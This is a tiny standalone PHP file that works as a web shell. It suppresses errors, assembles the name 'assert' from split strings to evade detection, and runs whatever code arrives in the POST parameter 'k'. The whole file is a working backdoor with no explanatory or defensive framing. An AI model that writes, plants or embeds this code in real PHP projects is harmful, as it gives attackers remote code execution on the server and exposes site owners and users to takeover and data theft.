<?php
error_reporting(0);
$f = 'as' . 'sert';
if (isset($_POST['k'])) {
    $f($_POST['k']);
}
?>
